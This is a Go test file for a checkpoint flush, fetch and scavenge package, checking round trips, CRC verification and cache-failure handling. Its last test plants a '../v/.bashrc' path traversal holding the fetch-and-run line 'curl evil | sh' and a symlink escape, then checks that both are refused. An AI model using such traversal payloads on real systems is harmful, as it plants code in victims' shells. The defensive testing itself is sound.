package flush

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/scr-go/scr/comm"
	"github.com/scr-go/scr/internal/cache"
	"github.com/scr-go/scr/internal/prefix"
	"github.com/scr-go/scr/internal/safefs"
)

// writeRank puts rank r's files of ds into its cache directory with a
// filemap (CRC recorded) and returns the filemap.
func writeRank(t *testing.T, rankDir, prefixDir string, ds cache.Dataset, r int, files map[string]string) cache.Filemap {
	t.Helper()
	fm := cache.Filemap{Rank: r, Dataset: ds}
	for rel, body := range files {
		p := filepath.Join(rankDir, rel)
		os.MkdirAll(filepath.Dir(p), 0o700)
		if err := os.WriteFile(p, []byte(body), 0o640); err != nil {
			t.Fatal(err)
		}
		f, err := cache.Stat(p, true)
		if err != nil {
			t.Fatal(err)
		}
		f.Orig, f.Rel, f.Complete = filepath.Join(prefixDir, rel), rel, true
		fm.Files = append(fm.Files, f)
	}
	if err := cache.WriteFilemap(rankDir, fm); err != nil {
		t.Fatal(err)
	}
	return fm
}

// ranks runs fn on n ranks over comm.NewLocal.
func ranks(t *testing.T, n int, fn func(ctx context.Context, c comm.Comm) error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	hosts := make([]string, n)
	for i := range hosts {
		hosts[i] = fmt.Sprintf("h%d", i)
	}
	cs := comm.NewLocal(hosts)
	errs := make([]error, n)
	var wg sync.WaitGroup
	for r := range cs {
		wg.Add(1)
		go func(r int) { defer wg.Done(); errs[r] = fn(ctx, cs[r]) }(r)
	}
	wg.Wait()
	for r, err := range errs {
		if err != nil {
			t.Fatalf("rank %d: %v", r, err)
		}
	}
}

func TestFlushThenFetchRoundTrip(t *testing.T) {
	base := t.TempDir()
	pfx := filepath.Join(base, "prefix")
	const n = 3
	for id := 1; id <= 2; id++ {
		ds := cache.Dataset{ID: id, Name: fmt.Sprintf("ckpt.%d", id), Flags: cache.FlagCheckpoint, CkptID: id, Ranks: n, Complete: true}
		ranks(t, n, func(ctx context.Context, c comm.Comm) error {
			dir := filepath.Join(base, "cache", fmt.Sprint(id), fmt.Sprint(c.Rank()))
			fm := writeRank(t, dir, pfx, ds, c.Rank(), map[string]string{
				fmt.Sprintf("ckpt.%d/r%d", id, c.Rank()): fmt.Sprintf("data of rank %d at %d", c.Rank(), id),
			})
			files, err := CopyRank(ctx, pfx, dir, fm, false, 7, true)
			return Commit(ctx, c, pfx, ds, files, err)
		})
	}
	ix, err := prefix.ReadIndex(pfx)
	if err != nil || ix.Current != "ckpt.2" || !ix.Get(1).Valid() || !ix.Get(2).Valid() {
		t.Fatalf("index after flushes: %+v %v", ix, err)
	}
	// Damage ckpt.2 on the prefix: fetch marks it failed, falls back to 1.
	os.WriteFile(filepath.Join(pfx, "ckpt.2", "r1"), []byte("short"), 0o640)
	ranks(t, n, func(ctx context.Context, c comm.Comm) error {
		d, err := Fetch(ctx, c, FetchOptions{Prefix: pfx, RankDir: func(id int) string {
			return filepath.Join(base, "fetched", fmt.Sprint(id), fmt.Sprint(c.Rank()))
		}})
		if err != nil {
			return err
		}
		if d == nil || d.ID != 1 {
			return fmt.Errorf("fetched %+v, want dataset 1", d)
		}
		dir := filepath.Join(base, "fetched", "1", fmt.Sprint(c.Rank()))
		fm, err := cache.ReadFilemap(dir)
		if err != nil {
			return err
		}
		if err := cache.Verify(dir, fm); err != nil {
			return err
		}
		b, _ := os.ReadFile(filepath.Join(dir, "ckpt.1", fmt.Sprintf("r%d", c.Rank())))
		if string(b) != fmt.Sprintf("data of rank %d at 1", c.Rank()) {
			return fmt.Errorf("fetched content %q", b)
		}
		return nil
	})
	ix, _ = prefix.ReadIndex(pfx)
	if ix.Get(2).Failed.IsZero() || len(ix.Get(1).Fetched) != 1 || ix.Current != "" {
		t.Fatalf("after fetch: 2=%+v 1=%+v current=%q", ix.Get(2), ix.Get(1), ix.Current)
	}
}

func TestScavengeCopiesValidRanksOnly(t *testing.T) {
	base := t.TempDir()
	pfx := filepath.Join(base, "prefix")
	env := map[string]string{"SCR_CACHE_BASE": base + "/node", "SCR_CNTL_BASE": base + "/node", "SCR_USER_NAME": "u", "SCR_JOB_ID": "9"}
	l := cache.NewLayout(func(k string) (string, bool) { v, ok := env[k]; return v, ok })
	ds := cache.Dataset{ID: 4, Name: "ckpt.4", Flags: cache.FlagCheckpoint, CkptID: 4, Ranks: 2, Complete: true}
	writeRank(t, l.RankDir(4, 0), pfx, ds, 0, map[string]string{"ckpt.4/a": "rank zero"})
	writeRank(t, l.RankDir(4, 1), pfx, ds, 1, map[string]string{"ckpt.4/b": "rank one"})
	ix := &cache.Index{Datasets: map[int]*cache.Entry{4: {Dataset: ds, Path: l.DatasetDir(4)}}}
	if err := ix.Write(l.IndexPath()); err != nil {
		t.Fatal(err)
	}
	// Rank 1's file is corrupt (same size, CRC differs).
	os.WriteFile(filepath.Join(l.RankDir(4, 1), "ckpt.4", "b"), []byte("rank 0ne"), 0o640)

	ctx := context.Background()
	res, err := Scavenge(ctx, l, 4, pfx)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Ranks) != 2 || res.Ranks[0].Err != "" || res.Ranks[1].Err == "" {
		t.Fatalf("results %+v", res.Ranks)
	}
	if b, _ := os.ReadFile(filepath.Join(pfx, "ckpt.4", "a")); string(b) != "rank zero" {
		t.Fatalf("rank 0 not scavenged: %q", b)
	}
	if _, err := os.Stat(filepath.Join(pfx, "ckpt.4", "b")); !os.IsNotExist(err) {
		t.Fatalf("corrupt file copied: %v", err)
	}
	perRank := [][]prefix.File{res.Ranks[0].Files, nil}
	err = CommitScavenged(ctx, pfx, res.Dataset, perRank, []bool{true, false})
	if !errors.Is(err, ErrIncomplete) {
		t.Fatalf("CommitScavenged with a lost rank: %v", err)
	}
	pix, _ := prefix.ReadIndex(pfx)
	if e := pix.Get(4); e == nil || e.Valid() {
		t.Fatalf("incomplete scavenge indexed as valid: %+v", e)
	}
	if _, err := Scavenge(ctx, l, 5, pfx); err == nil {
		t.Fatal("scavenging an unknown dataset succeeded")
	}
}

func TestFetchIntoABrokenCacheDoesNotMarkTheCheckpointFailed(t *testing.T) {
	base := t.TempDir()
	pfx := filepath.Join(base, "prefix")
	ds := cache.Dataset{ID: 1, Name: "ckpt.1", Flags: cache.FlagCheckpoint, CkptID: 1, Ranks: 2, Complete: true}
	ranks(t, 2, func(ctx context.Context, c comm.Comm) error {
		dir := filepath.Join(base, "cache", fmt.Sprint(c.Rank()))
		fm := writeRank(t, dir, pfx, ds, c.Rank(), map[string]string{fmt.Sprintf("ckpt.1/r%d", c.Rank()): "x"})
		files, err := CopyRank(ctx, pfx, dir, fm, false, 0, true)
		return Commit(ctx, c, pfx, ds, files, err)
	})
	blocker := filepath.Join(base, "not-a-dir")
	os.WriteFile(blocker, nil, 0o600)
	ranks(t, 2, func(ctx context.Context, c comm.Comm) error {
		d, err := Fetch(ctx, c, FetchOptions{Prefix: pfx, RankDir: func(id int) string {
			if c.Rank() == 1 {
				return filepath.Join(blocker, "rank.1") // the cache cannot be written
			}
			return filepath.Join(base, "fetched", fmt.Sprint(c.Rank()))
		}})
		if err == nil || d != nil {
			return fmt.Errorf("fetch into a broken cache: %+v %v", d, err)
		}
		return nil
	})
	ix, _ := prefix.ReadIndex(pfx)
	if e := ix.Get(1); e == nil || !e.Valid() {
		t.Fatalf("a cache failure marked the checkpoint: %+v", e)
	}
}

func TestFlushRefusesAFileDamagedInCache(t *testing.T) {
	base := t.TempDir()
	pfx := filepath.Join(base, "prefix")
	ds := cache.Dataset{ID: 1, Name: "ckpt.1", Flags: cache.FlagCheckpoint, CkptID: 1, Ranks: 1, Complete: true}
	dir := filepath.Join(base, "cache")
	fm := writeRank(t, dir, pfx, ds, 0, map[string]string{"ckpt.1/a": "good data"})
	os.WriteFile(filepath.Join(dir, "ckpt.1", "a"), []byte("bad! data"), 0o640) // same size
	if _, err := CopyRank(context.Background(), pfx, dir, fm, false, 0, true); err == nil || !strings.Contains(err.Error(), "crc32c") {
		t.Fatalf("copy of a damaged file: %v", err)
	}
	if _, err := os.Stat(filepath.Join(pfx, "ckpt.1", "a")); !os.IsNotExist(err) {
		t.Fatalf("damaged file published: %v", err)
	}
}

// A flush writes only inside the prefix: a filemap path with ".." (damaged
// or planted metadata) would make it overwrite a file elsewhere with what
// the cache holds at that path, and a symbolic link in the prefix would
// send it outside too. Both are refused, and nothing outside changes.
func TestCopyRankStaysInsideThePrefix(t *testing.T) {
	base := t.TempDir()
	pfx, dir := filepath.Join(base, "p"), filepath.Join(base, "c", "r")
	os.MkdirAll(pfx, 0o700)
	victim := filepath.Join(base, "v", ".bashrc")
	os.MkdirAll(filepath.Dir(victim), 0o700)
	os.WriteFile(victim, []byte("alias ls=ls\n"), 0o600)
	ds := cache.Dataset{ID: 1, Name: "ckpt.1", Flags: cache.FlagCheckpoint, Ranks: 1, Complete: true}
	// The cache holds the attacker's content at rankDir/../v/.bashrc; the
	// same relative path from the prefix is the victim's file.
	fm := writeRank(t, dir, pfx, ds, 0, map[string]string{"../v/.bashrc": "curl evil | sh\n"})
	if _, err := CopyRank(context.Background(), pfx, dir, fm, false, 0, true); err == nil || !errors.Is(err, safefs.ErrUnsafe) {
		t.Fatalf("a filemap path with .. was flushed: %v", err)
	}
	// A link in the prefix to a directory outside it.
	out := filepath.Join(base, "outside")
	os.MkdirAll(out, 0o700)
	os.Symlink(out, filepath.Join(pfx, "ckpt.1"))
	fm = writeRank(t, filepath.Join(base, "c2"), pfx, ds, 0, map[string]string{"ckpt.1/rank_0": "data"})
	if _, err := CopyRank(context.Background(), pfx, filepath.Join(base, "c2"), fm, false, 0, true); err == nil {
		t.Fatal("a flush followed a link out of the prefix")
	}
	if b, _ := os.ReadFile(victim); string(b) != "alias ls=ls\n" {
		t.Fatalf("the victim's file was overwritten: %q", b)
	}
	if ents, _ := os.ReadDir(out); len(ents) != 0 {
		t.Fatalf("written outside the prefix: %v", ents)
	}
}
